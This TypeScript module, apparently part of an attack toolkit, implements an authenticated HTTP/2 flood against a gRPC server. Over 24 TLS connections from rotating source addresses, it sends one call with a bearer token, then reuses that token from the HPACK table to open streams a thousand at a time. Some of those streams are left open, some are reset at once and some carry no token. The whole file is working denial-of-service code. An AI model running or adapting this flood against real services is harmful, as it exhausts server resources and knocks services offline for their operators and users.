import type { Socket } from 'node:net';
import { repeatInParallel, type Attack } from './attack.ts';
import { addressOf, isOpened, open, write } from './connection.ts';
import { callTo, flags, uint32, frame, preface, types } from './frames.ts';
import { field, framed, methods, varint } from './grpc.ts';

/** Streams opened per write. */
const perWrite = 1_000;

/** A header that HPACK indexes as 62 (RFC 7541, section 6.2.1). */
function authorization(token: string): Buffer {
  const value = Buffer.from(`Bearer ${token}`);
  // 0x57: indexed, with the name at index 23. 0x7f: the length minus 127 follows.
  return Buffer.concat([Buffer.from([0x57, 0x7f]), varint(value.length - 127), value]);
}

const list = callTo(methods.list);
/** With the token from the dynamic table. */
const again = Buffer.concat([list, Buffer.from([0xbe])]);

type Kind = 'lists' | 'endless' | 'resets' | 'anonymous';

function streamOf(kind: Kind, stream: number, message: Buffer): Buffer {
  const headers = frame(types.headers, flags.endHeaders, stream, kind === 'anonymous' ? list : again);
  if (kind === 'endless') return headers;
  if (kind === 'resets') return Buffer.concat([headers, frame(types.reset, 0, stream, uint32(8))]);
  return Buffer.concat([headers, frame(types.data, flags.endStream, stream, message)]);
}

/** Resolves when the first call is answered; false if the connection closed before. */
function answered(socket: Socket): Promise<boolean> {
  return new Promise((resolve) => {
    let rest = Buffer.alloc(0);
    socket.once('close', () => resolve(false));
    socket.on('data', (chunk: Buffer) => {
      rest = Buffer.concat([rest, chunk]);
      while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
        if (rest.readUInt8(3) === types.headers) resolve(true);
        rest = rest.subarray(9 + rest.readUIntBE(0, 3));
      }
    });
  });
}

/** Opens streams as fast as possible over 24 connections, each with one authenticated call. */
export async function authenticatedFlood(attack: Attack): Promise<void> {
  const { target, counter, signal } = attack;
  const kinds: readonly Kind[] = ['lists', 'endless', 'resets', 'anonymous'];
  const message = framed(field(1, `namespaces/${target.namespace}`));
  await repeatInParallel(attack, 24, async (number, round) => {
    const kind = kinds[(number + round) % kinds.length] ?? 'lists';
    const socket = open({ port: target.ports.grpc, tls: 'h2', from: addressOf(number % 5) });
    if (await isOpened(socket, 'secureConnect')) {
      const first = frame(types.headers, flags.endHeaders, 1, Buffer.concat([list, authorization(target.token)]));
      const data = frame(types.data, flags.endStream, 1, message);
      await write(socket, Buffer.concat([preface, frame(types.settings, 0, 0), first, data]));
      let isOpen = await answered(socket);
      for (let next = 3; !signal.aborted && isOpen; next += 2 * perWrite) {
        const streams = Array.from({ length: perWrite }, (_, at) => streamOf(kind, next + 2 * at, message));
        isOpen = await write(socket, Buffer.concat(streams));
        counter.add(kind, perWrite);
      }
      counter.add('closed');
    }
    socket.destroy();
  });
}
